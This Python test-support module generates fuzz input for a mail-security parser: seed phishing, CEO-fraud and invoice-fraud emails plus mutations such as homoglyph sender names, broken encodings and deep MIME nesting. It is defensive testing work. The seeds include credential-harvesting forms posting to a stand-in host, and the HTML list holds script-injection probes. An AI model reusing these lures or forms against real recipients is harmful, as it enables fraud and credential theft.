"""Hostile input for the fuzzers: realistic seed messages, mutations of them and pathological
structures (deep nesting, huge headers, encoded-word abuse, homoglyph names, IDN hosts, broken
HTML).

Shared by tests/test_fuzz.py (hypothesis drives the choices) and bench/fuzz_atheris.py (the seeds
start its corpus), so both fuzz the same kinds of mail. Every mutation is a pure function
``(data, rng) -> bytes``: the same Random state gives the same bytes, so any failure replays.
"""
from __future__ import annotations

import base64
import random
import re
import time
from typing import Callable, Optional

from features.context import Context, load_org
from features.parsing import ParseError, parse_message
from features.catalogue import evaluate

Mutation = Callable[[bytes, random.Random], bytes]

# --------------------------------------------------------------------------------------------
# seed messages: one of each shape the pipeline sees every day

BEC_PLAIN = (
    b"Return-Path: <jane.doe.ceo@gmail.com>\n"
    b"Received: from mail-ot1.google.com (mail-ot1.google.com [209.85.210.41]) by mx.example.com\n"
    b"Authentication-Results: mx.example.com; spf=pass smtp.mailfrom=gmail.com; dkim=pass;"
    b" dmarc=pass header.from=gmail.com\n"
    b"From: Jane Doe <jane.doe.ceo@gmail.com>\n"
    b"To: Bob Builder <bob@example.com>\n"
    b"Subject: Quick favour - are you available?\n"
    b"Date: Mon, 3 Jun 2024 10:00:00 +0000\n"
    b"Message-ID: <bec-1@mail.gmail.com>\n"
    b"MIME-Version: 1.0\n"
    b"Content-Type: text/plain; charset=utf-8\n"
    b"Content-Transfer-Encoding: 8bit\n"
    b"\n"
    b"Hi Bob,\n\nAre you available? I need you to buy 5 Apple gift cards of $200 each urgently "
    b"for a client. Keep this confidential, I am in a meeting and cannot take calls.\n"
    b"Send me the codes by email as soon as possible.\n\nJane\nSent from my iPhone\n"
)

PHISH_HTML = (
    b"From: =?utf-8?B?UGF5UGFsIFNlcnZpY2U=?= <service@paypal-security-check.com>\n"
    b"Reply-To: help@secure-mail.ru\n"
    b"To: bob@example.com\n"
    b"Subject: =?utf-8?Q?Your_account_has_been_limited_=E2=80=93_action_required?=\n"
    b"Date: Tue, 4 Jun 2024 09:12:00 +0200\n"
    b"Message-ID: <p1@paypal-security-check.com>\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/alternative; boundary="ALT-1"\n'
    b"\n"
    b"--ALT-1\n"
    b"Content-Type: text/plain; charset=us-ascii\n"
    b"\n"
    b"Dear Customer, verify your account within 24 hours: https://paypal.com.login-verify.top/x\n"
    b"--ALT-1\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"Content-Transfer-Encoding: quoted-printable\n"
    b"\n"
    b"<html><head><title>PayPal</title><style>p{color:#333}</style></head><body>\n"
    b"<p>Dear Customer,</p><p>We noticed unusual activity. Please <b>verify your password</b>"
    b" within 24 hours or your account will be suspended.</p>\n"
    b'<a href=3D"http://xn--pypal-4ve.com/signin?next=3Dhttps%3A%2F%2Fevil.example">'
    b"www.paypal.com/signin</a><br>\n"
    b'<a href=3D"http://192.168.10.5/login">Log in</a> <a href=3D"https://bit.ly/3abc">here</a>\n'
    b'<form action=3D"https://evil.example/post"><input name=3Dpw></form>\n'
    b"</body></html>\n"
    b"--ALT-1--\n"
)

INVOICE_MIXED = (
    b"From: Acme Accounts <ar@acme-suppl1es.com>\n"
    b"To: ap@example.com\n"
    b"Subject: =?iso-8859-1?Q?Rechnung_f=FCr_Juni?= - updated bank details\n"
    b"Date: Wed, 5 Jun 2024 14:00:00 +0000\n"
    b"Message-ID: <inv-77@acme-suppl1es.com>\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/mixed; boundary="MIX"\n'
    b"\n"
    b"preamble\n"
    b"--MIX\n"
    b"Content-Type: text/plain; charset=iso-8859-1\n"
    b"Content-Transfer-Encoding: quoted-printable\n"
    b"\n"
    b"Sehr geehrte Damen und Herren, bitte =FCberweisen Sie 12.500,00 EUR auf unser neues Konto.\n"
    b"IBAN: DE89 3704 0044 0532 0130 00, BIC COBADEFFXXX. The archive password is: 7781.\n"
    b"--MIX\n"
    b'Content-Type: application/zip; name="Rechnung_Juni.pdf.zip"\n'
    b"Content-Transfer-Encoding: base64\n"
    b'Content-Disposition: attachment; filename="Rechnung_Juni.pdf.zip"\n'
    b"\n"
    b"UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAAKAAAAaW52b2ljZS5leGVQSwUGAAAAAAEAAQA4AAAA\n"
    b"--MIX\n"
    b'Content-Type: text/html; name="remittance.html"\n'
    b"Content-Disposition: attachment; filename*=utf-8''remittance%20advice.htm\n"
    b"\n"
    b"<html><body><form action=\"https://evil.example/\">Password <input type=password>"
    b"</form></body></html>\n"
    b"--MIX\n"
    b'Content-Type: application/vnd.ms-excel.sheet.macroEnabled.12; name="po.xlsm"\n'
    b"Content-Transfer-Encoding: base64\n"
    b"\n"
    b"AAECAwQFBgcICQ==\n"
    b"--MIX--\n"
    b"epilogue\n"
)

FORWARDED = (
    b"From: Carol <carol@example.com>\n"
    b"To: abuse@example.com\n"
    b"Subject: Fwd: Urgent wire transfer\n"
    b"Date: Thu, 6 Jun 2024 08:00:00 +0000\n"
    b"Message-ID: <fwd-1@example.com>\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/mixed; boundary="OUT"\n'
    b"\n"
    b"--OUT\n"
    b"Content-Type: text/plain\n"
    b"\n"
    b"Looks like phishing, see attached.\n"
    b"--OUT\n"
    b"Content-Type: message/rfc822\n"
    b'Content-Disposition: attachment; filename="orig.eml"\n'
    b"\n"
    b'From: "John Smith (CEO)" <john.smith@exarnple.com>\n'
    b"Subject: Urgent wire transfer\n"
    b"Content-Type: text/plain\n"
    b"\n"
    b"Please wire USD 48,000 today to the account below. Do not discuss with anyone.\n"
    b"--OUT--\n"
)

THREAD_REPLY = (
    b"From: Alice Example <alice@example.com>\n"
    b"To: Bob <bob@example.com>\n"
    b"Subject: RE: planning review\n"
    b"In-Reply-To: <orig-1@example.com>\n"
    b"References: <orig-0@example.com> <orig-1@example.com>\n"
    b"Date: Fri, 7 Jun 2024 11:00:00 +0000\n"
    b"Message-ID: <reply-1@example.com>\n"
    b"Content-Type: text/plain; charset=windows-1252\n"
    b"\n"
    b"Thanks Bob, moved to Tuesday \x96 see you there.\n"
    b"\n"
    b"On Thu, 6 Jun 2024 at 09:00, Bob <bob@example.com> wrote:\n"
    b"> Can we move the review?\n"
    b"> It clashes with the all-hands.\n"
)

IMAGE_ONLY = (
    b"From: DHL Express <noreply@dhl-parcel-notice.com>\n"
    b"To: bob@example.com\n"
    b"Subject: Your parcel is waiting\n"
    b"MIME-Version: 1.0\n"
    b'Content-Type: multipart/related; boundary="REL"\n'
    b"\n"
    b"--REL\n"
    b"Content-Type: text/html; charset=utf-8\n"
    b"\n"
    b'<html><body><a href="https://dhl-parcel-notice.com/track"><img src="cid:img1"></a>'
    b"</body></html>\n"
    b"--REL\n"
    b"Content-Type: image/png\n"
    b"Content-ID: <img1>\n"
    b"Content-Transfer-Encoding: base64\n"
    b"\n"
    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==\n"
    b"--REL--\n"
)

SEEDS: dict[str, bytes] = {
    "bec_plain": BEC_PLAIN,
    "phish_html": PHISH_HTML,
    "invoice_mixed": INVOICE_MIXED,
    "forwarded": FORWARDED,
    "thread_reply": THREAD_REPLY,
    "image_only": IMAGE_ONLY,
}

# --------------------------------------------------------------------------------------------
# vocabularies of abuse

CHARSETS = (
    "utf-8", "us-ascii", "iso-8859-1", "windows-1252", "utf-16", "utf-16-le", "utf-32", "utf-7",
    "iso-2022-jp", "shift_jis", "gb2312", "big5", "koi8-r", "ks_c_5601-1987", "x-unknown",
    "unknown-8bit", "base64_codec", "rot13", "zlib", "hex", "uu_codec", "idna", "punycode",
    "unicode_escape", "raw_unicode_escape", "mbcs", "oem", "utf-8*en", '"utf-8', "3D\"utf-8\"",
    "", "charset", "utf-8; format=flowed", "\x00", "x" * 300, "cp65001", "utf_8_sig",
)

HOMOGLYPH_NAMES = (
    "P\u0430yP\u0430l Service",                 # Cyrillic a
    "\u0420\u0430\u0443\u0420\u0430l",          # all-Cyrillic "PayPal"
    "J\u0430ne D\u043ee",                       # VIP with Cyrillic a and o
    "Jane\u200b Doe",                           # zero-width space
    "\u202eenoD enaJ",                          # right-to-left override
    "Micr\u03bfs\u03bfft Supp\u03bfrt",          # Greek omicron
    "Admin \u2066\u2067\u2068 \u2069",          # isolates
    "\ufeffDocuSign",                           # BOM
    "\u0301\u0301\u0301",                       # bare combining marks
    "\U0001d5e3\U0001d5ee\U0001d606\U0001d5e3\U0001d5ee\U0001d5f9",   # math sans "PayPal"
    "A\u0000B",                                 # NUL inside a name
)

HOSTS = (
    "xn--pypal-4ve.com", "p\u0430ypal.com", "xn--80ak6aa92e.com", "xn--", "xn--a.xn--",
    "xn--zzzzzzzzzzzz-", "xn--" + "a" * 80 + ".com", "exa%6dple.com", "%zz%00.com",
    "[::1", "[v1.x]", "user:pw@host:99999999", "0x7f.1", "3232235777", "a" * 300 + ".com",
    "\u2024paypal.com", "paypal.com\u3002evil.example", "xn--e1awd7f.com", ".", "..", "-.-",
    "ex\u00e4mple.com", "EXAMPLE.COM.", "xn--mnchen-3ya.de", "evil.example:8080",
)

ENCODED_WORDS = (
    "=?utf-8?B?!!!notbase64!!!?=",
    "=?utf-8?B?SGVsbG8?=",                      # missing padding
    "=?x-no-such-charset?Q?caf=E9?=",
    "=?utf-8?B?PT91dGYtOD9CP1NHVnNiRzg9Pz0=?=",  # base64 of another encoded word
    "=?utf-8?Q?unterminated",
    "=?utf-8?",
    "=??B?AAAA?=",
    "=?utf-16?B?//5IAGkA?=",
    "=?unicode_escape?Q?\\N{BOGUS?=",
    "=?punycode?Q?xn--?=",
    "=?idna?Q?=FF=FE?=",
    "=?utf-8?X?unknown-encoding?=",
    "=?utf-8*en-us?Q?lang?=",
    "=?utf-8?Q?=E2=80=AEreversed?=",
    "=?iso-2022-jp?B?GyRCJEgkahsoQg==?=",
    "=?utf-8?B?" + "QUFB" * 400 + "?=",
)

HTML_JUNK = (
    "<a href=\"http://", "<!--", "<![CDATA[", "<script>", "<style>", "<title>", "<xml>",
    "</a></a></a>", "<a href=x>", "&#xFFFFFFFF;", "&#0;", "&#x110000;", "&bogus;", "<a href='javascript:alert(1)'>",
    "<form action>", "<area href=\"https://\u202eexample.com\">", "<img src=x onerror=1>",
    "<div style=\"display:none\">", "<span style=\"font-size:0\">", "<" * 50, "<a href=\"" + "x" * 5000,
    "<table><tr><td>", "<pre>", "</pre></pre>", "<head><body><head>", "<base href=\"//evil.example/\">",
    "<!DOCTYPE", "<?xml version=\"1.0\"?>", "<svg><script>", "</", "<a/href=//evil.example>x</a>",
)


def _pick(rng: random.Random, xs):
    return xs[rng.randrange(len(xs))]


# --------------------------------------------------------------------------------------------
# byte-level mutations

def flip_bytes(data: bytes, rng: random.Random) -> bytes:
    """Overwrite a few random bytes with random values: bit rot and transport damage."""
    if not data:
        return data
    buf = bytearray(data)
    for _ in range(rng.randint(1, 16)):
        buf[rng.randrange(len(buf))] = rng.randrange(256)
    return bytes(buf)


def truncate(data: bytes, rng: random.Random) -> bytes:
    """Cut the message at a random offset: half-downloaded mail, mbox split mid-message."""
    return data[:rng.randrange(len(data) + 1)] if data else data


def insert_nuls(data: bytes, rng: random.Random) -> bytes:
    """NUL bytes in headers and bodies (C string handling, binary confusion)."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        buf[rng.randrange(len(buf) + 1):0] = b"\x00" * rng.randint(1, 3)
    return bytes(buf)


def splice(data: bytes, rng: random.Random) -> bytes:
    """Copy a random chunk of the message to a random place (duplicated or misplaced parts)."""
    if len(data) < 2:
        return data
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randint(1, 400))
    at = rng.randrange(len(data) + 1)
    return data[:at] + data[a:b] + data[at:]


def line_endings(data: bytes, rng: random.Random) -> bytes:
    """Mixed CRLF / bare CR / LF line endings, as relays and Windows clients mangle them."""
    style = _pick(rng, (b"\r\n", b"\r", b"\n\r", b"\r\r\n"))
    lines = data.split(b"\n")
    return b"".join(line + (style if rng.random() < 0.5 else b"\n") for line in lines)


# --------------------------------------------------------------------------------------------
# header-level mutations

_CHARSET_RE = re.compile(rb"charset=\"?[^\s;\"]*\"?", re.IGNORECASE)


def wrong_charset(data: bytes, rng: random.Random) -> bytes:
    """Declare other (unknown, binary, multi-byte) charsets than the bytes are in."""
    def repl(_m: re.Match[bytes]) -> bytes:
        return b'charset="' + _pick(rng, CHARSETS).encode("utf-8", "replace") + b'"'
    out = _CHARSET_RE.sub(repl, data)
    if out == data:
        out = data.replace(b"Content-Type: text/plain", b"Content-Type: text/plain; charset=" +
                           _pick(rng, CHARSETS).encode("utf-8", "replace"), 1)
    return out


def mixed_charsets(data: bytes, rng: random.Random) -> bytes:
    """Append body text in another encoding than declared (UTF-16 in a latin-1 part, ...)."""
    text = "Urgent: v\u00e9rifiez votre mot de passe \u2013 \u0441\u0440\u043e\u0447\u043d\u043e \u7d27\u6025"
    enc = _pick(rng, ("utf-16", "utf-32", "shift_jis", "koi8-r", "cp1252", "utf-7", "gb18030"))
    blob = text.encode(enc, "replace")
    head, sep, body = data.partition(b"\n\n")
    at = rng.randrange(len(body) + 1)
    return head + (sep or b"\n\n") + body[:at] + blob + body[at:]


def _set_header(data: bytes, name: bytes, value: bytes) -> bytes:
    """Replace the first header ``name`` (or add it on top)."""
    rx = re.compile(rb"^" + re.escape(name) + rb":[^\n]*(?:\n[ \t][^\n]*)*", re.IGNORECASE | re.MULTILINE)
    head, sep, body = data.partition(b"\n\n")
    new, n = rx.subn(lambda _m: name + b": " + value, head, count=1)
    if not n:
        new = name + b": " + value + b"\n" + head
    return new + sep + body


def encoded_word_abuse(data: bytes, rng: random.Random) -> bytes:
    """Broken RFC 2047 words in Subject/From/To/filenames: bad base64, unknown charsets,
    nested and unterminated words."""
    words = " ".join(_pick(rng, ENCODED_WORDS) for _ in range(rng.randint(1, 6)))
    which = _pick(rng, (b"Subject", b"From", b"To", b"Reply-To", b"Content-Type"))
    if which == b"From":
        value = f"{words} <x@{_pick(rng, HOSTS)}>"
    elif which == b"Content-Type":
        value = f'text/plain; name="{words}"; charset={_pick(rng, CHARSETS)}'
    else:
        value = words
    return _set_header(data, which, value.encode("utf-8", "surrogatepass"))


def display_name_tricks(data: bytes, rng: random.Random) -> bytes:
    """Homoglyph, zero-width and right-to-left-override display names, raw UTF-8 or encoded."""
    name = _pick(rng, HOMOGLYPH_NAMES)
    host = _pick(rng, HOSTS)
    raw = name.encode("utf-8", "surrogatepass")
    if rng.random() < 0.5:
        raw = b"=?utf-8?B?" + base64.b64encode(raw) + b"?="
    value = b'"' + raw + b'" <ceo@' + host.encode("utf-8", "surrogatepass") + b">"
    return _set_header(data, _pick(rng, (b"From", b"Sender", b"Reply-To")), value)


def idn_urls(data: bytes, rng: random.Random) -> bytes:
    """Punycode, Unicode and malformed hosts in links (plain text and HTML)."""
    host = _pick(rng, HOSTS)
    scheme = _pick(rng, ("http://", "https://", "hxxp://", "HTTPS://", "https:\\\\", "//"))
    url = f"{scheme}{host}/{_pick(rng, ('login', '', '?u=https://evil.example', '%2F%2F'))}"
    snippet = _pick(rng, (url, f'<a href="{url}">www.{_pick(rng, HOSTS)}</a>', f"www.{host}/x"))
    head, sep, body = data.partition(b"\n\n")
    at = rng.randrange(len(body) + 1)
    return head + (sep or b"\n\n") + body[:at] + snippet.encode("utf-8", "surrogatepass") + b"\n" + body[at:]


# --------------------------------------------------------------------------------------------
# MIME structure mutations

_BOUNDARY_RE = re.compile(rb'boundary="?([^";\s]+)"?', re.IGNORECASE)


def break_boundaries(data: bytes, rng: random.Random) -> bytes:
    """Missing, changed, empty, duplicated or never-closed MIME boundaries."""
    m = _BOUNDARY_RE.search(data)
    if not m:
        return data.replace(b"Content-Type: text/plain", b"Content-Type: multipart/mixed", 1)
    b = m.group(1)
    choice = rng.randrange(6)
    if choice == 0:
        return data[:m.start()] + data[m.end():]                          # no boundary parameter
    if choice == 1:
        return data[:m.start()] + b'boundary="NOPE"' + data[m.end():]     # declared, never used
    if choice == 2:
        return data.replace(b"--" + b + b"--", b"")                       # never closed
    if choice == 3:
        return data[:m.start()] + b'boundary=""' + data[m.end():]
    if choice == 4:
        return data.replace(b"--" + b + b"\n", b"--" + b + b"\n--" + b + b"\n")   # empty parts
    return data[:m.start()] + b'boundary="' + b"-" * rng.randint(70, 5000) + b'"' + data[m.end():]


def malformed_html(data: bytes, rng: random.Random) -> bytes:
    """Broken markup inserted into the body: unclosed tags, comments, CDATA, huge entities."""
    junk = "".join(_pick(rng, HTML_JUNK) for _ in range(rng.randint(1, 10)))
    head, sep, body = data.partition(b"\n\n")
    at = rng.randrange(len(body) + 1)
    if b"text/html" not in head and rng.random() < 0.5:
        head = _set_header(head + b"\n\n", b"Content-Type", b"text/html; charset=utf-8").rstrip(b"\n")
    return head + (sep or b"\n\n") + body[:at] + junk.encode("utf-8") + body[at:]


def deep_multipart(depth: int, leaf: bytes = b"Content-Type: text/plain\n\nverify your password\n",
                   closed: bool = True) -> bytes:
    """A message whose body is ``depth`` multipart containers nested inside each other."""
    parts = [b"From: a@b.example\nSubject: deep\nMIME-Version: 1.0\n"]
    for i in range(depth):
        parts.append(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (i, i))
    parts.append(leaf)
    if closed:
        for i in reversed(range(depth)):
            parts.append(b"\n--b%d--\n" % i)
    return b"".join(parts)


def deep_rfc822(depth: int) -> bytes:
    """``depth`` message/rfc822 parts, each wrapping the next (forward of a forward of ...)."""
    msg = b"From: inner@evil.example\nSubject: core\n\nverify your account\n"
    for i in range(depth):
        msg = (b"From: fwd%d@example.com\nSubject: Fwd\nContent-Type: message/rfc822\n\n" % i) + msg
    return msg


def deep_nesting(data: bytes, rng: random.Random) -> bytes:
    """Hundreds of nested multiparts or forwarded messages around the payload."""
    depth = rng.randint(50, 400)
    if rng.random() < 0.5:
        return deep_multipart(depth, data.partition(b"\n\n")[2][:2000] or b"x", closed=rng.random() < 0.5)
    return deep_rfc822(depth // 4)


def huge_header(data: bytes, rng: random.Random) -> bytes:
    """One header of about 1 MB (subject, address list, encoded words or folded lines)."""
    size = 1 << 20
    kind = rng.randrange(5)
    if kind == 0:
        value = b"A" * size
    elif kind == 1:
        value = b", ".join(b"u%d@d%d.example" % (i, i) for i in range(size // 20))
    elif kind == 2:
        value = b" ".join([b"=?utf-8?B?SGVsbG8gd29ybGQ=?="] * (size // 28))
    elif kind == 3:
        value = b"\n ".join([b"folded"] * (size // 8))
    else:
        value = b'"' + b"\\\"" * (size // 2) + b'" <a@b.example>'
    name = _pick(rng, (b"Subject", b"To", b"From", b"Received", b"X-Junk", b"Authentication-Results"))
    return name + b": " + value + b"\n" + data


def many_headers(data: bytes, rng: random.Random) -> bytes:
    """Ten thousand headers before the real ones (Received chains, To lists, junk)."""
    name = _pick(rng, (b"Received", b"To", b"X-H", b"Reply-To", b"Subject"))
    block = b"".join(name + b": v%d@h%d.example\n" % (i, i) for i in range(10_000))
    return block + data


MUTATIONS: dict[str, Mutation] = {
    "flip_bytes": flip_bytes, "truncate": truncate, "insert_nuls": insert_nuls, "splice": splice,
    "line_endings": line_endings, "wrong_charset": wrong_charset, "mixed_charsets": mixed_charsets,
    "encoded_word_abuse": encoded_word_abuse, "display_name_tricks": display_name_tricks,
    "idn_urls": idn_urls, "break_boundaries": break_boundaries, "malformed_html": malformed_html,
}
# Mutations that build megabyte-sized or deeply nested input: applied once, never stacked.
HEAVY_MUTATIONS: dict[str, Mutation] = {
    "deep_nesting": deep_nesting, "huge_header": huge_header, "many_headers": many_headers,
}


def mutate(data: bytes, names: list[str], rng: random.Random) -> bytes:
    """Apply the named mutations in order."""
    for name in names:
        fn = MUTATIONS.get(name) or HEAVY_MUTATIONS[name]
        data = fn(data, rng)
    return data


# --------------------------------------------------------------------------------------------
# the property every input must satisfy

_CTX: Optional[Context] = None


def context() -> Context:
    """The default organisation context, built once."""
    global _CTX
    if _CTX is None:
        _CTX = Context(load_org())
    return _CTX


class Outcome:
    """What one parse + extract did: rejected (ParseError), or the signals that raised, and how long
    it took."""

    def __init__(self, rejected: Optional[str], signal_errors: dict[str, str], seconds: float):
        self.rejected = rejected
        self.signal_errors = signal_errors
        self.seconds = seconds


def run_one(raw: bytes) -> Outcome:
    """Parse and extract one message. Exceptions other than ParseError propagate: they are bugs."""
    t0 = time.perf_counter()
    try:
        msg = parse_message(raw)
    except ParseError as exc:
        return Outcome(str(exc), {}, time.perf_counter() - t0)
    evidence = evaluate(msg, context())
    errors = {k: v.detail for cev in evidence.values() for k, v in cev.items()
              if k.endswith("!error") and v is not None}
    return Outcome(None, errors, time.perf_counter() - t0)
